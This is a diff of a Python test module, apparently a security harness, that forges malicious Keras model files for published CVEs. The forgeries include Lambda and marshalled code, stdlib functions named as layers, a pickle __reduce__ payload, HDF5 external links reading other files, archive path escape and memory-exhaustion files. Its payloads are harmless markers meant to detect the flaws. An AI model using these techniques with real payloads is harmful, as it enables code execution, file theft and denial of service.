@@ -1,12 +1,12 @@
-"""A stranger's file is loaded. Does it do what a file should not be able to do?
+"""Forge files that run code, write or read other files, or use up memory when they are loaded.
 
-Asked for by the campaign of hostile files alone (configs/hostile.yaml). Every payload is harmless:
-what runs leaves a marker beside the model, what is written elsewhere is written into the cell's own
-folder, what is read is a file that was put there for it.
+Every payload is harmless. Code that runs leaves a marker in the current folder. A path that leads
+elsewhere leads into the cell's own folder. The other file that is read was put there by the cell.
+configs/scenario/hostile.yaml maps these files to the effects that they give away.
 
-Known of these: CVE-2024-3660 (Lambda), CVE-2025-1550 (functions as layers), CVE-2025-8747 (those of
-Keras itself), CVE-2025-9906 (safe mode switched off), CVE-2025-9905 (safe mode and HDF5),
-CVE-2025-12058 (vocabularies as paths), CVE-2026-1669 (HDF5 that refers to other files).
+Published vulnerabilities: CVE-2024-3660 (Lambda), CVE-2025-1550 (functions as layers),
+CVE-2025-8747 (functions of Keras), CVE-2025-9906 (safe mode switched off), CVE-2025-9905 (safe mode
+and HDF5), CVE-2025-12058 (vocabularies as paths), CVE-2026-1669 (HDF5 that refers to other files).
 """
 
 import base64
@@ -19,24 +19,22 @@ import zipfile
 import h5py
 import numpy
 
-from experiments.scenarios import _archive, _files, _models, need
+from experiments.scenarios import UNREAD, _archive, _files, _models, need
 
-MARKER, AT_LOAD = "marker", "marker_at_load"
-"""What code that ran leaves in the current folder; its name if it was there after loading."""
+MARKER, USE = "marker", "use"
+"""The file that code leaves when it runs, and the folder in which a loaded model is used."""
 ESCAPED, SECRET = os.path.join(os.pardir, "escaped"), os.path.join(os.pardir, "secret")
-"""What a path that leads out of an archive makes; what no file should make its reader read."""
-NEVER_READ = 1
-"""The time of reading of a secret that nobody has read."""
+"""The file that a path out of an archive makes, and the file that no model should read."""
 MIB, WHITESPACE_MIB = 1024 * 1024, 768
 HUGE, LARGE = 1 << 40, 1 << 30
 DEEP = 100000
 
 
 PAYLOADS = [lambda inputs: (open("marker", "w").close(), inputs)[1]]
-"""Leaves the marker. What a Lambda layer of the file does; a function with a name is not kept."""
+"""The function of a Lambda layer, which leaves the marker. Keras keeps the code of lambdas only."""
 
 
-# --- What a model is before anything is done to its file
+# --- The models that are saved
 
 
 def _with_lambda(tf):
@@ -72,7 +70,7 @@ def _with_vocabulary(tf):
     )
 
 
-BUILT = {
+MODELS = {
     "pristine": lambda tf: _models.mlp(tf.keras),
     "lambda": _with_lambda,
     "op": _with_op,
@@ -81,14 +79,14 @@ BUILT = {
 }
 
 
-# --- What is done to the file
+# --- The forgeries of their files
 
 
 def _secret(content):
-    """Put a file where none should be read, as one that was never read; return its whole path."""
+    """Write the file that no model should read, marked as unread; return its absolute path."""
     with open(SECRET, "wb") as stream:
         stream.write(content)
-    os.utime(SECRET, (NEVER_READ, os.stat(SECRET).st_mtime))
+    os.utime(SECRET, (UNREAD, os.stat(SECRET).st_mtime))
     return os.path.abspath(SECRET)
 
 
@@ -107,7 +105,7 @@ def _edit_json(path, edit):
 
 
 def _edit_weights(path, edit):
-    """Change the HDF5 file of the weights, also inside of an archive."""
+    """Change the HDF5 file of the weights; in an archive it is a member."""
     if not zipfile.is_zipfile(path):
         with h5py.File(_files.need_hdf5(path), "r+") as stream:
             edit(stream)
@@ -123,18 +121,18 @@ def _edit_weights(path, edit):
 
 
 def _kernel(stream):
-    """Return the path of the first matrix of a file, and what it holds."""
-    found = []
+    """Return the path of the first matrix of a file, and its values."""
+    matrices = []
     stream.visititems(
         lambda name, item: (
-            found.append(name) if isinstance(item, h5py.Dataset) and item.ndim == 2 else None
+            matrices.append(name) if isinstance(item, h5py.Dataset) and item.ndim == 2 else None
         )
     )
-    return found[0], stream[found[0]][()]
+    return matrices[0], stream[matrices[0]][()]
 
 
 def external_link(path, cell):
-    """Have a weight be a link to a dataset of another file."""
+    """Replace a weight by a link to a dataset of another file."""
 
     def edit(stream):
         name, values = _kernel(stream)
@@ -148,45 +146,47 @@ def external_link(path, cell):
 
 
 def external_storage(path, cell):
-    """Have the numbers of a weight be the bytes of another file."""
+    """Replace a weight by a dataset whose values are the bytes of another file."""
 
     def edit(stream):
         name, values = _kernel(stream)
-        place = _secret(values.astype("<f4").tobytes())
+        secret = _secret(values.astype("<f4").tobytes())
         del stream[name]
-        stream.create_dataset(name, values.shape, "<f4", external=[(place, 0, h5py.h5f.UNLIMITED)])
+        stream.create_dataset(name, values.shape, "<f4", external=[(secret, 0, h5py.h5f.UNLIMITED)])
 
     return _edit_weights(path, edit)
 
 
 def virtual_dataset(path, cell):
-    """Have a weight be put together from a dataset of another file."""
+    """Replace a weight by a virtual dataset, which is put together from another file."""
 
     def edit(stream):
         name, values = _kernel(stream)
         other = io.BytesIO()
         with h5py.File(other, "w") as secret:
             secret["stolen"] = values
-        place = _secret(other.getvalue())
+        source = _secret(other.getvalue())
         layout = h5py.VirtualLayout(values.shape, values.dtype)
-        layout[:] = h5py.VirtualSource(place, "stolen", values.shape, values.dtype)
+        layout[:] = h5py.VirtualSource(source, "stolen", values.shape, values.dtype)
         del stream[name]
         stream.create_virtual_dataset(name, layout)
 
     return _edit_weights(path, edit)
 
 
-def _declared(path, **how):
+def _declared(path, **arguments):
+    """Replace a weight by an empty dataset, declared by arguments of `create_dataset`."""
+
     def edit(stream):
         name, _ = _kernel(stream)
         del stream[name]
-        stream.create_dataset(name, dtype="<f4", **how)
+        stream.create_dataset(name, dtype="<f4", **arguments)
 
     return _edit_weights(path, edit)
 
 
 def huge_shape(path, cell):
-    """Declare a weight of 4 TiB, of which the file has nothing."""
+    """Declare a weight of 4 TiB, for which the file holds no values."""
     return _declared(path, shape=(HUGE,))
 
 
@@ -196,7 +196,7 @@ def packed_weights(path, cell):
 
 
 def packed_config(path, cell):
-    """Follow the configuration by whitespace that takes a thousandth of its size packed."""
+    """Append whitespace to the configuration; packed, it takes a thousandth of its size."""
     with zipfile.ZipFile(_files.need_zip(path)) as archive:
         members = {name: archive.read(name) for name in archive.namelist()}
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
@@ -209,7 +209,7 @@ def packed_config(path, cell):
 
 
 def deep_config(path, cell):
-    """Nest lists in the configuration, deeper than any reader goes."""
+    """Nest lists in the configuration, deeper than any parser goes."""
     deep = b'{"class_name": ' + b"[" * DEEP + b"]" * DEEP + b"}"
     return _edit_json(path, lambda content: deep)
 
@@ -225,7 +225,7 @@ def path_out_of_archive(path, cell):
 
 
 def pickled_weights(path, cell):
-    """Have the weights be arrays of NumPy that are unpickled."""
+    """Replace the weights by an array of NumPy that has to be unpickled."""
 
     class Payload(object):
         def __reduce__(self):
@@ -237,52 +237,53 @@ def pickled_weights(path, cell):
     numpy.savez(pickled, __root__=arrays)
 
     def edit(members):
-        kept = {name: content for name, content in members.items() if name != _archive.WEIGHTS}
-        return dict(kept, **{"model.weights.npz": pickled.getvalue()})
+        others = {name: content for name, content in members.items() if name != _archive.WEIGHTS}
+        return dict(others, **{"model.weights.npz": pickled.getvalue()})
 
     return _archive.packed_anew(path, edit)
 
 
 def vocabulary_of_file(path, cell):
-    """Have a layer's vocabulary be a path."""
+    """Replace a layer's vocabulary by the path of another file."""
 
     def edit(content):
         config = json.loads(content)
-        place = _secret(b"stranger\nsecret\n")
+        secret = _secret(b"stranger\nsecret\n")
         for layer in config["config"]["layers"]:
             if "vocabulary" in layer["config"]:
-                layer["config"]["vocabulary"] = place
+                layer["config"]["vocabulary"] = secret
         return json.dumps(config).encode("utf-8")
 
     return _edit_json(path, edit)
 
 
-def _with_layers(path, *made):
-    """Put layers in the place of all but the first of a functional model, which it then returns.
+def _with_layers(path, *makers):
+    """Replace all but the first layer of a functional model, which then returns its input.
 
-    Each of them is made of the model's own configuration, so that the names of modules are those
-    of the release.
+    Each maker is given the model's own configuration, whose names of modules are those of the
+    release, and returns a layer.
     """
 
     def edit(content):
         config = json.loads(content)
-        return json.dumps(_of_layers(config, [make(config) for make in made])).encode("utf-8")
+        return json.dumps(_replaced(config, [make(config) for make in makers])).encode("utf-8")
 
     return _edit_json(path, edit)
 
 
-def _of_layers(model, layers):
+def _replaced(model, layers):
+    """Return a functional model with other layers after its first."""
     changed = json.loads(json.dumps(model))
     inner = changed["config"]
-    inner["layers"] = [one for one in inner["layers"] if one["name"] == "first"] + layers
-    # As Keras 2 and as Keras 3 name it: a list of places, or one place.
+    inner["layers"] = [layer for layer in inner["layers"] if layer["name"] == "first"] + layers
+    # Keras 2 writes a list of outputs, Keras 3 a single output; the input has the same form.
     inner["output_layers"] = inner["input_layers"]
     changed.pop("build_config", None)
     return changed
 
 
 def _function(module, name, *arguments, **keywords):
-    """Return a function where a layer should be, and the arguments that it is called with."""
+    """Return a function in the form of a layer, with the arguments of its call."""
     return {
         "module": module,
         "class_name": "function",
@@ -294,19 +295,19 @@ def _function(module, name, *arguments, **keywords):
 
 
 def function_as_layer(path, cell):
-    """Name a function of the standard library where a layer should be."""
+    """Name a function of the standard library instead of a layer."""
     return _with_layers(path, lambda model: _function("os", "mkdir", MARKER))
 
 
 def function_of_keras(path, cell):
-    """Name a function of Keras that fetches files where a layer should be."""
-    place = "file://" + _secret(b"secret")
-    call = _function("keras.utils", "get_file", MARKER, place, cache_dir=".", cache_subdir=".")
+    """Name a function of Keras that fetches files instead of a layer."""
+    address = "file://" + _secret(b"secret")
+    call = _function("keras.utils", "get_file", MARKER, address, cache_dir=".", cache_subdir=".")
     return _with_layers(path, lambda model: call)
 
 
 def safe_mode_off(path, cell):
-    """Have one layer switch safe mode off, and the next be code."""
+    """Switch safe mode off in a first layer, and bring code in a second."""
     switch = _function("keras.config", "enable_unsafe_deserialization")
     code = base64.b64encode(marshal.dumps(PAYLOADS[0].__code__)).decode("ascii")
     function = {"code": code, "defaults": None, "closure": None}
@@ -319,16 +320,16 @@ def safe_mode_off(path, cell):
     }
 
     def code_layer(model):
-        second = next(one for one in model["config"]["layers"] if one["name"] == "second")
+        second = next(layer for layer in model["config"]["layers"] if layer["name"] == "second")
         return dict(second, class_name="Lambda", config=config, name="code")
 
     def switching_model(model):
-        return dict(_of_layers(model, [switch]), name="switch", inbound_nodes=[])
+        return dict(_replaced(model, [switch]), name="switch", inbound_nodes=[])
 
     return _with_layers(path, switching_model, code_layer)
 
 
-FORGED = {
+FORGERIES = {
     "lambda_code": lambda path, cell: path,
     "op_in_graph": lambda path, cell: path,
     "function_as_layer": function_as_layer,
@@ -345,38 +346,38 @@ FORGED = {
     "packed_config": packed_config,
     "deep_config": deep_config,
 }
-"""What a file is made into; by the name of the case."""
+"""The change of the file, by the name of the case."""
 
 
 class Scenario(_files.PlainModel):
-    """A case is a way to make a file do what it should not."""
+    """A case is a forgery."""
 
     def build(self, tf, cell):
-        return BUILT[cell["saved_as"]](tf)
+        return MODELS[cell["saved_as"]](tf)
 
     def inputs(self, cell):
-        if os.path.exists(MARKER):  # asked for when the model is loaded, before it is used
-            os.rename(MARKER, AT_LOAD)
+        if "api" in cell:  # the model is loaded: from now on, markers are those of its use
+            os.mkdir(USE)
+            os.chdir(USE)
         if cell["saved_as"] == "vocabulary":
             return [numpy.array([["secret"], ["stranger"]], dtype=object)]
         return super(Scenario, self).inputs(cell)
 
     def save(self, tf, model, path, cell):
         super(Scenario, self).save(tf, model, path, cell)
-        for name in (MARKER, AT_LOAD):  # the author's own run of the code
-            if os.path.exists(name):
-                os.remove(name)
+        if os.path.exists(MARKER):  # of the author's own run of the code
+            os.remove(MARKER)
 
     def prepare(self, path, cell):
         _probe()
-        return FORGED[cell["case"]](path, cell)
+        return FORGERIES[cell["case"]](path, cell)
 
 
 def _probe():
-    """Raise where the file system does not tell when a file was read."""
-    place = _secret(b"probe")
-    with open(place, "rb") as stream:
+    """Raise `RuntimeError` where the file system does not record when a file was read."""
+    secret = _secret(b"probe")
+    with open(secret, "rb") as stream:
         stream.read()
-    if os.stat(place).st_atime <= NEVER_READ:
-        raise RuntimeError("this file system does not tell when a file was read")
-    os.remove(place)
+    if os.stat(secret).st_atime <= UNREAD:
+        raise RuntimeError("this file system does not record when a file was read")
+    os.remove(secret)
